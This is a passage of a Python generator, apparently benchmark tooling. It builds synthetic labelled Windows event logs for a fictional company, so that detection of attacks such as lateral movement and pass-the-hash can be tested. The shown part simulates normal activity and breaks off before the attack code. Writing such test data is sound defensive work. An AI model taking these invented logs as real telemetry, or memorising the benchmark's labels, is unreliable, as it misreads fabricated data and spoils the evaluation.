#!/usr/bin/env python3
"""Generate a labelled enterprise log set for graph hunting, drawn differently.

Writes synthetic Windows Security and Sysmon events of a company, with labelled attacks
and hard negatives, in the file format of `shared/data/netgraph/` (see its README.md):

- `OUTDIR/events.jsonl.gz`: one event per line, sorted by time, in the JSON shape of an
  EVTX dump (`{"Event": {"System": {...}, "EventData": {...}}}`); `EventRecordID` is unique
  over the file and `Computer` is an FQDN.
- `OUTDIR/labels.jsonl.gz`: one line per event, in the same order: `computer`,
  `record_id`, `label` (`normal`, `attack:<kind>`, `benign:<kind>`), `scenario`.
- `OUTDIR/meta.json`: profile "generated", seed, users, servers, days, start,
  baseline_end, events, label_counts, scenarios [{scenario, kind, day}].

It exists to check that an entity-graph hunt generalises beyond the shared file, so the
set is drawn differently on purpose:

- size and period come from the arguments (default 300 users, 40 servers, 21 days with a
  14-day baseline), and the first day is a Wednesday instead of a Monday;
- domain `example.org` (NetBIOS `EXAMPLE`), other SIDs and IP ranges (laptops
  172.20.0.0/16, desktops 172.21.0.0/16, servers 192.168.40.0/22, infrastructure
  192.168.8.0/24);
- no common naming scheme: laptops `LT-nnnn` and desktops `DESK-nnnn` with random asset
  numbers, servers named by role in mixed styles (`FS-2`, `SQLPRD03`, `APP-7`, `WEB01`),
  domain controllers `ADS01..`, jump host `BASTION1`, backup `VEEAM01` (`VEEAM02` after a
  migration), management `MGMT-1`, scanner `VULNSCAN`;
- users named `f.last`; admin and helpdesk accounts follow several schemes
  (`a.jones.admin`, `t-jones`, `jones_t1`, random `op-xxxx`, `sd-jones`, `a.jones.hd`),
  never `adm-<user>`; service accounts `svc_veeam`, `svc_pdq`, `nessus_scan`;
- more ordinary noise: users also log on to a DC (SYSVOL), browsers and Teams open
  outbound connections (Sysmon 3), Defender reads LSASS with a harmless access mask
  (Sysmon 10), a few power users run cmd/PowerShell/ipconfig, admins sometimes use WinRM
  from the jump host, helpdesk occasionally adds a user to `Remote Desktop Users` (4732),
  the vulnerability scanner sweeps every week in the baseline too;
- quieter attacks: lateral movement has 2-5 hops 30 min to 4 h apart, mostly by WMI,
  WinRM or RDP (PsExec rarely), partly to servers the stolen admin looks after; privilege
  escalation tools vary and the group change is sometimes made by the machine account;
  APT progression runs only 1-3 discovery commands over a whole day; pass-the-hash
  touches 3-6 servers.

Attacks (`--scenarios` of each kind, in the days after the baseline): lateral_movement,
privilege_escalation, apt_progression, pass_the_hash. Hard negatives (same count):
patch_rollout, helpdesk_remote, new_admin, scanner_sweep, service_migration.

Usage:
  python3 bench/netgraph_gen.py OUTDIR [--seed N] [--users 300] [--servers 40] [--days 21]
                                [--baseline-days 14] [--scenarios 6]

Output is deterministic for a given set of arguments. Standard library only.
"""

import argparse
import base64
import collections
import gzip
import io
import json
import os
import random
import sys
import time
from datetime import datetime, timedelta, timezone

DOMAIN = "EXAMPLE"
DNS = "example.org"
REALM = "EXAMPLE.ORG"
LDAP_DC = "DC=example,DC=org"
START = datetime(2026, 2, 11, tzinfo=timezone.utc)  # a Wednesday
DAY = 86400.0
HOUR = 3600.0
MIN = 60.0

SEC_PROVIDER = "Microsoft-Windows-Security-Auditing"
SYSMON_PROVIDER = "Microsoft-Windows-Sysmon"
SYSMON_CHANNEL = "Microsoft-Windows-Sysmon/Operational"
SYSMON_IDS = (1, 3, 10)

SYS32 = "C:\\Windows\\System32\\"
PS = SYS32 + "WindowsPowerShell\\v1.0\\powershell.exe"
CMD = SYS32 + "cmd.exe"
EXPLORER = "C:\\Windows\\explorer.exe"
SERVICES = SYS32 + "services.exe"
SVCHOST = SYS32 + "svchost.exe"
WMIPRVSE = SYS32 + "wbem\\WmiPrvSE.exe"
WSMPROVHOST = SYS32 + "wsmprovhost.exe"
LSASS = "C:\\Windows\\system32\\lsass.exe"
OFFICE = "C:\\Program Files\\Microsoft Office\\root\\Office16\\"
SYSTEM_USER = "NT AUTHORITY\\SYSTEM"

PRIVS = [
    "SeSecurityPrivilege\r\n\t\t\tSeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\t"
    "SeTakeOwnershipPrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\tSeSystemEnvironmentPrivilege"
    "\r\n\t\t\tSeLoadDriverPrivilege\r\n\t\t\tSeImpersonatePrivilege\r\n\t\t\t"
    "SeDelegateSessionUserImpersonatePrivilege",
    "SeBackupPrivilege\r\n\t\t\tSeRestorePrivilege\r\n\t\t\tSeDebugPrivilege\r\n\t\t\t"
    "SeImpersonatePrivilege",
]

FIRST = ("anna ben carla david elena frank greta hugo irene jonas karin lukas maria niklas "
         "olivia paul quentin rosa stefan tanja ulrich vera walter xenia yusuf zoe amir "
         "bianca chris dana emil fiona georg hanna ivan julia kai lena marco nina oscar petra "
         "rafael sara tom ute viktor wanda alex brenda cem doris erik farah gil helga igor "
         "jana kurt lara mika nora").split()
LAST = ("jones keller baker fischer weber wagner becker schulz hoffmann koch richter klein "
        "wolf neumann schwarz braun zimmer kruger hartmann lange schmitt werner krause meier "
        "lehmann kohler huber kaiser fuchs peters lang scholz moller weiss jung hahn vogel "
        "friedrich gunther berger winkler roth beck lorenz baumann franke albrecht schuster "
        "simon ludwig bohm winter kraus martin schumacher vogt stein jager otto sommer gross "
        "seidel heinrich brandt haas schreiber graf dietrich ziegler kuhn pohl engel horn "
        "busch bergmann thomas voigt sauer arnold wolff pfeiffer nguyen silva rossi novak").split()

APPS = [
    (OFFICE + "OUTLOOK.EXE", "\"{img}\"", 8),
    (OFFICE + "EXCEL.EXE", "\"{img}\" \"C:\\Users\\{u}\\Documents\\{doc}.xlsx\"", 6),
    (OFFICE + "WINWORD.EXE", "\"{img}\" /n \"C:\\Users\\{u}\\Documents\\{doc}.docx\"", 6),
    (OFFICE + "POWERPNT.EXE", "\"{img}\"", 2),
    ("C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe",
     "\"{img}\" --profile-directory=Default", 7),
    ("C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe", "\"{img}\"", 5),
    ("C:\\Users\\{u}\\AppData\\Local\\Microsoft\\Teams\\current\\Teams.exe",
     "\"{img}\" --system-initiated", 6),
    ("C:\\Program Files\\Notepad++\\notepad++.exe", "\"{img}\"", 2),
    (SYS32 + "notepad.exe", "\"{img}\" C:\\Users\\{u}\\Desktop\\notes.txt", 2),
    ("C:\\Program Files\\Adobe\\Acrobat DC\\Acrobat\\Acrobat.exe",
     "\"{img}\" \"C:\\Users\\{u}\\Downloads\\{doc}.pdf\"", 3),
    ("C:\\Users\\{u}\\AppData\\Roaming\\Zoom\\bin\\Zoom.exe", "\"{img}\"", 1),
    (SYS32 + "mspaint.exe", "\"{img}\"", 1),
]
POWER_APPS = [
    (CMD, "\"{img}\"", EXPLORER),
    (PS, "\"{img}\"", EXPLORER),
    (SYS32 + "ipconfig.exe", "ipconfig /all", CMD),
    (SYS32 + "ipconfig.exe", "ipconfig /flushdns", CMD),
    (SYS32 + "PING.EXE", "ping -n 4 {srv}", CMD),
    ("C:\\Program Files\\Git\\cmd\\git.exe", "git pull", CMD),
    ("C:\\Users\\{u}\\AppData\\Local\\Programs\\Microsoft VS Code\\Code.exe", "\"{img}\"",
     EXPLORER),
    ("C:\\Program Files\\Python311\\python.exe", "python build.py", PS),
    (SYS32 + "nslookup.exe", "nslookup {srv}", CMD),
    (SYS32 + "whoami.exe", "whoami", CMD),
]
DOCS = ["Q1-report", "budget", "minutes", "offer", "timesheet", "travel", "plan", "invoice",
        "roadmap", "inventory", "contract", "review"]
ADMIN_TOOLS = [
    (SYS32 + "mmc.exe", "\"{img}\" \"C:\\Windows\\system32\\compmgmt.msc\" /s"),
    (SYS32 + "mmc.exe", "\"{img}\" \"C:\\Windows\\system32\\services.msc\""),
    (SYS32 + "eventvwr.exe", "\"{img}\""),
    (PS, "\"{img}\""),
    (SYS32 + "taskmgr.exe", "\"{img}\" /4"),
    (SYS32 + "ServerManager.exe", "\"{img}\""),
    (SYS32 + "perfmon.exe", "\"{img}\" /res"),
]
HELPDESK_TOOLS = [
    (SYS32 + "mmc.exe", "\"{img}\" \"C:\\Windows\\system32\\devmgmt.msc\""),
    (SYS32 + "msinfo32.exe", "\"{img}\""),
    (SYS32 + "control.exe", "\"{img}\" printers"),
    (SYS32 + "gpupdate.exe", "gpupdate /force"),
    (SYS32 + "eventvwr.exe", "\"{img}\""),
    (SYS32 + "appwiz.cpl", "control appwiz.cpl"),
]
SERVER_ROLES = [("FS", 5, "user"), ("FILE", 2, "user"), ("APP", 6, "user"), ("SQLPRD", 3, "db"),
                ("SQL", 3, "db"), ("WEB", 4, "web"), ("EXCH", 2, "user"), ("PRN", 2, "user"),
                ("ERP", 2, "user"), ("CRM", 2, "user"), ("HV", 3, "infra"), ("SP", 1, "user"),
                ("RDS", 1, "user"), ("LIC", 1, "infra"), ("GIT", 1, "user"), ("WSUS", 1, "infra"),
                ("CA", 1, "infra"), ("NAS", 1, "infra"), ("ELK", 1, "infra")]


def is_private(a, b):
    return a == 10 or (a == 172 and 16 <= b <= 31) or (a == 192 and b == 168) or a == 127


class Host:
    __slots__ = ("name", "fqdn", "ip", "kind", "hid", "owner")

    def __init__(self, name, ip, kind, hid):
        self.name = name
        self.fqdn = name + "." + DNS
        self.ip = ip
        self.kind = kind  # lt, desk, srv, dc, infra
        self.hid = hid
        self.owner = None


class Account:
    __slots__ = ("name", "sid", "kind", "host", "first", "last", "ou", "power", "start_h",
                 "servers", "apps", "admin", "helpdesk", "owner")

    def __init__(self, name, sid, kind):
        self.name = name
        self.sid = sid
        self.kind = kind  # user, admin, helpdesk, service
        self.host = None
        self.first = ""
        self.last = ""
        self.ou = "Staff"
        self.power = False
        self.start_h = 8.0
        self.servers = []
        self.apps = []
        self.admin = None
        self.helpdesk = None
        self.owner = None

    @property
    def dn(self):
        cn = (self.first.capitalize() + " " + self.last.capitalize()).strip() or self.name
        return "CN=%s,OU=%s,%s" % (cn, self.ou, LDAP_DC)


class Gen:
    def __init__(self, args):
        self.a = args
        self.rng = random.Random(args.seed)
        self.ev = []  # (t, seq, host, eid, data, label, scenario)
        self.seq = 0
        self.end = args.days * DAY
        self.base_end = args.baseline_days * DAY
        self.scenarios = []
        self.rids = set()
        r = self.rng
        self.sid_base = "S-1-5-21-%d-%d-%d" % (r.randint(10 ** 9, 4 * 10 ** 9 - 1),
                                               r.randint(10 ** 9, 4 * 10 ** 9 - 1),
                                               r.randint(10 ** 8, 10 ** 9 - 1))
        self.build_org()

    # ------------------------------------------------------------------ organisation
    def new_sid(self):
        while True:
            rid = self.rng.randint(1105, 9999)
            if rid not in self.rids:
                self.rids.add(rid)
                return "%s-%d" % (self.sid_base, rid)

    def public_ip(self):
        r = self.rng
        while True:
            a = r.choice([13, 20, 23, 31, 34, 35, 40, 45, 51, 52, 62, 77, 81, 88, 91, 104, 142,
                          146, 151, 157, 178, 185, 188, 193, 194, 195, 203, 212, 213, 217])
            b = r.randint(0, 255)
            if not is_private(a, b):
                return "%d.%d.%d.%d" % (a, b, r.randint(0, 255), r.randint(1, 254))

    def build_org(self):
        r = self.rng
        a = self.a
        self.admin_names = set()
        hid = iter(range(1, 10 ** 6))
        # infrastructure
        self.dcs = [Host("ADS%02d" % (i + 1), "192.168.8.%d" % (11 + i), "dc", next(hid))
                    for i in range(2 if a.users < 600 else 3)]
        self.bastion = Host("BASTION1", "192.168.8.20", "infra", next(hid))
        self.mgmt = Host("MGMT-1", "192.168.8.25", "infra", next(hid))
        self.backup = Host("VEEAM01", "192.168.8.31", "infra", next(hid))
        self.backup_new = Host("VEEAM02", "192.168.8.47", "infra", next(hid))
        self.scanner = Host("VULNSCAN", "192.168.8.60", "infra", next(hid))
        # servers, named by role in mixed styles
        styles = [lambda p, n: "%s-%d" % (p, n), lambda p, n: "%s%02d" % (p, n),
                  lambda p, n: "%s%d" % (p, n), lambda p, n: "%s-%02d" % (p, n)]
        role_style = {p: r.choice(styles) for p, _, _ in SERVER_ROLES}
        counters = collections.Counter()
        self.servers = []
        self.user_servers = []
        names = set()
        ips = r.sample(range(10, 1000), a.servers)
        pool = [p for p, w, _ in SERVER_ROLES for _ in range(w)]
        need = ["FS", "APP", "FS", "APP", "EXCH", "ERP"]
        for i in range(a.servers):
            p = need[i] if i < len(need) else r.choice(pool)
            while True:
                counters[p] += r.choice([1, 1, 1, 2])
                name = role_style[p](p, counters[p])
                if name not in names:
                    break
            names.add(name)
            ip = "192.168.%d.%d" % (40 + ips[i] // 250, 4 + ips[i] % 250)
            h = Host(name, ip, "srv", next(hid))
            self.servers.append(h)
            if dict((q, k) for q, _, k in SERVER_ROLES)[p] == "user":
                self.user_servers.append(h)
        # users and workstations
        self.users = []
        self.workstations = []
        used_names = set()
        assets = r.sample(range(1000, 10000), a.users)
        ws_ips = r.sample(range(0, 60000), a.users)
        for i in range(a.users):
            while True:
                f, l = r.choice(FIRST), r.choice(LAST)
                base = "%s.%s" % (f[0], l)
                name = base
                k = 2
                while name in used_names:
                    name = "%s%d" % (base, k)
                    k += 1
                break
            used_names.add(name)
            u = Account(name, self.new_sid(), "user")
            u.first, u.last = f, l
            laptop = r.random() < 0.6
            n = ws_ips[i]
            if laptop:
                h = Host("LT-%04d" % assets[i], "172.20.%d.%d" % (n // 250, 2 + n % 250), "lt",
                         next(hid))
            else:
                h = Host("DESK-%04d" % assets[i], "172.21.%d.%d" % (n // 250, 2 + n % 250),
                         "desk", next(hid))
            h.owner = u
            u.host = h
            u.start_h = r.uniform(6.5, 9.5)
            u.servers = r.sample(self.user_servers, r.randint(1, min(3, len(self.user_servers))))
            u.apps = r.sample(APPS, r.randint(4, 7))
            u.power = r.random() < 0.05
            self.users.append(u)
            self.workstations.append(h)
        order = list(range(a.users))
        r.shuffle(order)
        n_adm = max(3, round(0.04 * a.users))
        n_hd = r.randint(2, 4)
        self.admins = []
        for idx in order[:n_adm]:
            self.admins.append(self.make_admin(self.users[idx]))
        self.helpdesk = []
        for idx in order[n_adm:n_adm + n_hd]:
            u = self.users[idx]
            name = r.choice(["sd-%s" % u.last, "%s.hd" % u.name, "%s.support" % u.last])
            h = Account(name, self.new_sid(), "helpdesk")
            h.first, h.last, h.ou, h.owner = u.first, u.last, "Support", u
            u.helpdesk = h
            self.helpdesk.append(h)
        self.reserved = set(order[:n_adm + n_hd])
        # servers looked after by each admin; every server has at least one admin
        allsrv = list(self.servers)
        r.shuffle(allsrv)
        for i, s in enumerate(allsrv):
            self.admins[i % n_adm].servers.append(s)
        for adm in self.admins:
            extra = r.sample(self.servers, r.randint(1, 4))
            for s in extra:
                if s not in adm.servers:
                    adm.servers.append(s)
        for adm in self.admins[:2]:
            adm.servers.extend(self.dcs)
        self.svc_backup = Account("svc_veeam", self.new_sid(), "service")
        self.svc_deploy = Account("svc_pdq", self.new_sid(), "service")
        self.svc_scan = Account("nessus_scan", self.new_sid(), "service")
        for s in (self.svc_backup, self.svc_deploy, self.svc_scan):
            s.ou = "ServiceAccounts"
        self.web_ips = [self.public_ip() for _ in range(160)]
        self.ms_ips = ["52.%d.%d.%d" % (r.randint(96, 127), r.randint(0, 255), r.randint(1, 254))
                       for _ in range(20)]
        self.absent = {}
        for u in self.users:
            for d in range(a.days):
                if r.random() < 0.05:
                    self.absent[(u.name, d)] = True
        self.hd_touched = collections.defaultdict(set)

    def make_admin(self, u, kind="admin"):
        r = self.rng
        while True:
            scheme = r.randrange(5)
            if scheme == 0:
                name = "%s.admin" % u.name
            elif scheme == 1:
                name = "t-%s" % u.last
            elif scheme == 2:
                name = "%s_t1" % u.last
            elif scheme == 3:
                name = "op-" + "".join(r.choice("abcdefghjkmnpqrstuvwxyz23456789")
                                       for _ in range(4))
            else:
                name = "%s%s-sa" % (u.first[0], u.last)
            if name not in self.admin_names:
                break
        self.admin_names.add(name)
        adm = Account(name, self.new_sid(), kind)
        adm.first, adm.last, adm.ou, adm.owner = u.first, u.last, "Tier1Admins", u
        u.admin = adm
        return adm

    # ------------------------------------------------------------------ primitives
    def weekday(self, d):
        return (START.weekday() + d) % 7

    def workday(self, d):
        return self.weekday(d) < 5

    def emit(self, t, host, eid, data, label="normal", scen=""):
        self.ev.append((t, self.seq, host, eid, data, label, scen))
        self.seq += 1

    def logon_id(self):
        return "0x%x" % self.rng.randint(0x100000, 0xffffffff)

    def port(self):
        return self.rng.randint(49152, 65535)

    def dc(self):
        return self.rng.choice(self.dcs)

    def tgt(self, t, acct, src, lab="normal", scen=""):
        self.emit(t, self.dc(), 4768, {
            "TargetUserName": acct.name, "TargetDomainName": DOMAIN, "ServiceName": "krbtgt",
            "IpAddress": "::ffff:" + src.ip, "Status": "0x0", "TicketEncryptionType": "0x12"},
            lab, scen)

    def tgs(self, t, acct, src, dst, lab="normal", scen=""):
        self.emit(t, self.dc(), 4769, {
            "TargetUserName": "%s@%s" % (acct.name, REALM), "ServiceName": dst.name + "$",
            "IpAddress": "::ffff:" + src.ip, "Status": "0x0", "TicketEncryptionType": "0x12"},
            lab, scen)

    def logon(self, t, host, acct, ltype, src=None, pkg="Kerberos", priv=False, lab="normal",
              scen="", ticket=True):
        """4624 (+ 4769 before a remote Kerberos logon, + 4672 when privileged)."""
        remote = ltype in (3, 10)
        if remote and pkg == "Kerberos" and ticket:
            self.tgs(t - self.rng.uniform(0.2, 1.5), acct, src, host, lab, scen)
        lid = self.logon_id()
        if ltype == 3:
            proc = "Kerberos" if pkg == "Kerberos" else "NtLmSsp"
        else:
            proc = "User32"
        self.emit(t, host, 4624, {
            "SubjectUserSid": "S-1-0-0", "SubjectUserName": "-", "SubjectDomainName": "-",
            "TargetUserSid": acct.sid, "TargetUserName": acct.name, "TargetDomainName": DOMAIN,
            "LogonType": ltype, "LogonProcessName": proc, "AuthenticationPackageName": pkg,
            "WorkstationName": (src.name if remote else host.name),
            "IpAddress": (src.ip if remote else "127.0.0.1"),
            "IpPort": str(self.port()) if remote else "0", "LogonId": lid}, lab, scen)
        if priv:
            self.emit(t + 0.003, host, 4672, {
                "SubjectUserSid": acct.sid, "SubjectUserName": acct.name,
                "SubjectDomainName": DOMAIN, "SubjectLogonId": lid,
                "PrivilegeList": PRIVS[0] if acct.kind != "service" else PRIVS[1]}, lab, scen)
        return lid

    def interactive(self, t, acct, host, ltype=2, priv=False, lab="normal", scen=""):
        self.tgt(t - self.rng.uniform(0.5, 1.5), acct, host, lab, scen)
        self.logon(t, host, acct, ltype, priv=priv, lab=lab, scen=scen)

    def fail(self, t, host, name, ltype, src, lab="normal", scen="", sub="0xc000006a"):
        self.emit(t, host, 4625, {
            "TargetUserName": name, "TargetDomainName": DOMAIN, "Status": "0xc000006d",
            "SubStatus": sub, "LogonType": ltype, "WorkstationName": src.name,
            "IpAddress": src.ip if ltype == 3 or ltype == 10 else "127.0.0.1"}, lab, scen)

    def proc(self, t, host, user, image, cmd, parent, pcmd=None, lab="normal", scen="",
             integrity="Medium"):
        r = self.rng
        self.emit(t, host, 1, {
            "ProcessGuid": "{%08X-%04X-%04X-0000-%012X}" % (
                (host.hid * 2654435761) & 0xffffffff, r.randint(0, 0xffff),
                r.randint(0, 0xffff), self.seq),
            "ProcessId": r.randint(250, 5000) * 4, "Image": image, "CommandLine": cmd,
            "CurrentDirectory": ("C:\\Users\\%s\\" % user.name) if isinstance(user, Account)
            else "C:\\Windows\\system32\\",
            "User": user if isinstance(user, str) else "%s\\%s" % (DOMAIN, user.name),
            "IntegrityLevel": integrity, "ParentImage": parent,
            "ParentCommandLine": pcmd if pcmd is not None else "\"%s\"" % parent},
            lab, scen)

    def net(self, t, host, user, image, dst_ip, dport=443, lab="normal", scen=""):
        self.emit(t, host, 3, {
            "Image": image,
            "User": user if isinstance(user, str) else "%s\\%s" % (DOMAIN, user.name),
            "Protocol": "tcp", "Initiated": "true", "SourceIp": host.ip,
            "SourcePort": self.port(), "DestinationIp": dst_ip, "DestinationPort": dport},
            lab, scen)

    def access(self, t, host, user, src_image, mask, lab="normal", scen=""):
        self.emit(t, host, 10, {
            "SourceImage": src_image, "TargetImage": LSASS, "GrantedAccess": mask,
            "SourceUser": user if isinstance(user, str) else "%s\\%s" % (DOMAIN, user.name)},
            lab, scen)

    def group_add(self, t, host, member, group, gdomain, subj_name, subj_domain, lab, scen):
        self.emit(t, host, 4732, {
            "MemberName": member.dn, "MemberSid": member.sid, "TargetUserName": group,
            "TargetDomainName": gdomain, "SubjectUserName": subj_name,
            "SubjectDomainName": subj_domain}, lab, scen)

    # ------------------------------------------------------------------ normal behaviour
    def app_start(self, t, u, host, lab="normal", scen=""):
        r = self.rng
        img, cmd, _ = r.choices(u.apps, weights=[w for _, _, w in u.apps])[0]
        img = img.replace("{u}", u.name)
        self.proc(t, host, u, img, cmd.format(img=img, u=u.name, doc=r.choice(DOCS)),
                  EXPLORER, "C:\\Windows\\Explorer.EXE", lab, scen)
        base = img.rsplit("\\", 1)[-1].lower()
        if base in ("msedge.exe", "chrome.exe", "teams.exe") or r.random() < 0.15:
            for _ in range(r.randint(1, 2)):
                ip = r.choice(self.ms_ips if base in ("teams.exe", "outlook.exe")
                              else self.web_ips)
                self.net(t + r.uniform(2, 600), host, u, img, ip, 443, lab, scen)
        if base == "outlook.exe" and r.random() < 0.12:
            b = "C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe"
            self.proc(t + r.uniform(60, 3000), host, u, b,
                      "\"%s\" --single-argument https://intranet.%s/news" % (b, DNS), img,
                      "\"%s\"" % img, lab, scen)
        if base == "excel.exe" and r.random() < 0.08:
            self.proc(t + r.uniform(60, 1800), host, u, SYS32 + "splwow64.exe",
                      SYS32 + "splwow64.exe 12288", img, "\"%s\"" % img, lab, scen)

    def user_day(self, u, d):
        r = self.rng
        h = u.host
        t0 = d * DAY + (u.start_h + r.gauss(0, 0.35)) * HOUR
        if not self.workday(d):
            if r.random() > 0.04:
                return
            t0 = d * DAY + r.uniform(9, 16) * HOUR
        lt = 11 if (h.kind == "lt" and r.random() < 0.4) else 2
        if r.random() < 0.03:
            self.fail(t0 - r.uniform(5, 40), h, u.name, lt, h)
        self.interactive(t0, u, h, lt)
        self.proc(t0 + 2.5, h, u, EXPLORER, EXPLORER, SYS32 + "userinit.exe")
        if r.random() < 0.5:
            dc = self.dc()
            self.logon(t0 + r.uniform(3, 20), dc, u, 3, h)
        length = (r.uniform(7.5, 9.5) if self.workday(d) else r.uniform(0.5, 2.5)) * HOUR
        for _ in range(r.randint(5, 11) if self.workday(d) else r.randint(1, 3)):
            self.app_start(t0 + r.uniform(30, length), u, h)
        if u.power and r.random() < 0.6:
            for _ in range(r.randint(1, 4)):
                img, cmd, par = r.choice(POWER_APPS)
                img = img.replace("{u}", u.name)
                self.proc(t0 + r.uniform(600, length), h, u, img,
                          cmd.format(img=img, srv=r.choice(self.servers).name), par)
        if self.workday(d):
            for s in u.servers:
                if r.random() < 0.8:
                    for _ in range(r.randint(1, 3)):
                        self.logon(t0 + r.uniform(300, length), s, u, 3, h)
            if r.random() < 0.03:
                s = r.choice(self.user_servers)
                self.logon(t0 + r.uniform(300, length), s, u, 3, h)
            if r.random() < 0.4:  # back from lunch
                t1 = t0 + r.uniform(3.5, 5) * HOUR
                if r.random() < 0.02:
                    self.fail(t1 - r.uniform(3, 20), h, u.name, lt, h)
                self.interactive(t1, u, h, lt)
            if r.random() < 0.01 and u.servers:
                self.fail(t0 + r.uniform(300, length), u.servers[0], u.name, 3, h)
        if r.random() < 0.02:
            img = "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\MsMpEng.exe"
            self.access(t0 + r.uniform(0, length), h, SYSTEM_USER, img,
                        r.choice(["0x1000", "0x101000", "0x1400"]))

    def admin_day(self, adm, d):
        r = self.rng
        u = adm.owner
        if not self.workday(d) and r.random() > 0.08:
            return
        if self.workday(d) and (r.random() > 0.75 or self.absent.get((u.name, d))):
            return
        t = d * DAY + (u.start_h + r.uniform(0.5, 3.0)) * HOUR
        if r.random() < 0.03:
            self.fail(t - r.uniform(5, 30), self.bastion, adm.name, 10, u.host)
        self.logon(t, self.bastion, adm, 10, u.host, priv=True)
        for _ in range(r.randint(1, 4)):
            t += r.uniform(8, 80) * MIN
            s = r.choice(adm.servers)
            self.admin_visit(t, adm, s)

    def admin_visit(self, t, adm, s, lab="normal", scen=""):
        r = self.rng
        if r.random() < 0.15:
            self.logon(t, s, adm, 3, self.bastion, priv=True, lab=lab, scen=scen)
            self.proc(t + r.uniform(1, 3), s, adm, WSMPROVHOST, WSMPROVHOST + " -Embedding",
                      SVCHOST, SVCHOST + " -k DcomLaunch -p", lab, scen, "High")
            if r.random() < 0.5:
                self.proc(t + r.uniform(4, 60), s, adm, SYS32 + "sc.exe", "sc.exe query type= service",
                          WSMPROVHOST, WSMPROVHOST + " -Embedding", lab, scen, "High")
        else:
            self.logon(t, s, adm, 10, self.bastion, priv=True, lab=lab, scen=scen)
            img, cmd = r.choice(ADMIN_TOOLS)
            self.proc(t + r.uniform(30, 240), s, adm, img, cmd.format(img=img), EXPLORER,
                      "C:\\Windows\\Explorer.EXE", lab, scen, "High")

    def helpdesk_day(self, hd, d):
        r = self.rng
        u = hd.owner
        if not self.workday(d) or self.absent.get((u.name, d)):
            return
        t = d * DAY + (u.start_h + r.uniform(0.5, 1.5)) * HOUR
        for _ in range(r.randint(2, 5)):
            t += r.uniform(20, 110) * MIN
            target = r.choice(self.workstations)
            if target is u.host:
                continue
            self.hd_touched[hd.name].add(target.name)
            self.helpdesk_visit(t, hd, target)
            if r.random() < 0.03:
                self.group_add(t + r.uniform(60, 400), target, target.owner,
                               "Remote Desktop Users", "Builtin", hd.name, DOMAIN, "normal", "")

    def helpdesk_visit(self, t, hd, target, lab="normal", scen=""):
        r = self.rng
        self.logon(t, target, hd, 10, hd.owner.host, priv=True, lab=lab, scen=scen)
        for _ in range(r.randint(1, 2)):
            img, cmd = r.choice(HELPDESK_TOOLS)
            self.proc(t + r.uniform(20, 600), target, hd, img, cmd.format(img=img), EXPLORER,
                      "C:\\Windows\\Explorer.EXE", lab, scen, "High")

    def backup_night(self, d, src, lab="normal", scen=""):
        r = self.rng
        t = d * DAY + r.uniform(21.75, 22.5) * HOUR
        self.tgt(t - 2, self.svc_backup, src, lab, scen)
        for s in self.servers + self.dcs:
            self.logon(t, s, self.svc_backup, 3, src, priv=True, lab=lab, scen=scen)
            t += r.uniform(12, 45)

    def deploy_week(self, d):
        r = self.rng
        t = d * DAY + r.uniform(18.5, 19.5) * HOUR
        self.tgt(t - 2, self.svc_deploy, self.mgmt)
        runner = "C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\PDQDeployRunner-1.exe"
        pkg = r.choice(["7-Zip 23.01", "Chrome 121", "Zoom 5.17", "Acrobat DC update"])
        for h in self.workstations:
            if h.kind == "lt" and r.random() < 0.25:
                continue
            self.logon(t, h, self.svc_deploy, 3, self.mgmt, priv=True)
            self.proc(t + r.uniform(2, 6), h, SYSTEM_USER, runner, "\"%s\"" % runner, SERVICES,
                      SERVICES, integrity="System")
            self.proc(t + r.uniform(8, 30), h, SYSTEM_USER, SYS32 + "msiexec.exe",
                      "msiexec.exe /i \"C:\\Windows\\AdminArsenal\\PDQDeployRunner\\service-1\\"
                      "exec\\%s.msi\" /qn /norestart" % pkg.split()[0].lower(), runner,
                      "\"%s\"" % runner, integrity="System")
            t += r.uniform(3, 9)

    def scan_sweep(self, t, lab="normal", scen=""):
        r = self.rng
        for s in self.servers + self.dcs:
            for _ in range(r.choice([0, 1, 1, 2, 3])):
                self.fail(t, s, self.svc_scan.name, 3, self.scanner, lab, scen)
                t += r.uniform(1, 4)
            if r.random() < 0.7:
                self.logon(t, s, self.svc_scan, 3, self.scanner, pkg="NTLM", priv=True,
                           lab=lab, scen=scen)
            t += r.uniform(4, 15)

    def normal(self):
        a = self.a
        r = self.rng
        deploy_wd = r.choice([1, 2, 3])  # Tue..Thu
        scan_wd = r.choice([5, 6])
        self.scan_wd = scan_wd
        for d in range(a.days):
            for u in self.users:
                if not self.absent.get((u.name, d)):
                    self.user_day(u, d)
            for adm in self.admins:
                self.admin_day(adm, d)
            for hd in self.helpdesk:
                self.helpdesk_day(hd, d)
            if d not in self.migration_nights:
                self.backup_night(d, self.backup)
            if self.weekday(d) == deploy_wd:
                self.deploy_week(d)
            if self.weekday(d) == scan_wd and d < a.baseline_days:
                self.scan_sweep(d * DAY + r.uniform(1.5, 3) * HOUR)

    # ------------------------------------------------------------------ scenarios
    def window_day(self, weekday_only=True, last_ok=True):
        a = self.a
        days = list(range(a.baseline_days, a.days - (0 if last_ok else 1)))
        if not days:
            days = list(range(a.baseline_days, a.days))
        wd = [d for d in days if self.workday(d)]
        return self.rng.choice(wd if (weekday_only and wd) else days)

    def ordinary(self, d, exclude):
        r = self.rng
        for _ in range(10000):
            i = r.randrange(len(self.users))
            u = self.users[i]
            if i in self.reserved or u.name in exclude or self.absent.get((u.name, d)):
                continue
            exclude.add(u.name)
            return u
        raise SystemExit("not enough users for the scenarios")

    def other_ws(self, not_hosts):
        while True:
            h = self.rng.choice(self.workstations)
            if h not in not_hosts:
                return h

    def scenario(self, kind, i, d, fn):
        name = "%s-%d" % (kind.split(":")[1], i)
        lab = kind
        mark = len(self.ev)
        fn(d, lab, name)
        evs = self.ev[mark:]
        if evs:
            hi = max(e[0] for e in evs)
            if hi > self.end - 120:
                shift = hi - (self.end - 120)
                self.ev[mark:] = [(e[0] - shift,) + e[1:] for e in evs]
            lo = min(e[0] for e in self.ev[mark:])
            d = int(lo // DAY)
        self.scenarios.append({"scenario": name, "kind": kind, "day": d})

    def initial_exec(self, t, u, lab, scen):
        r = self.rng
        h = u.host
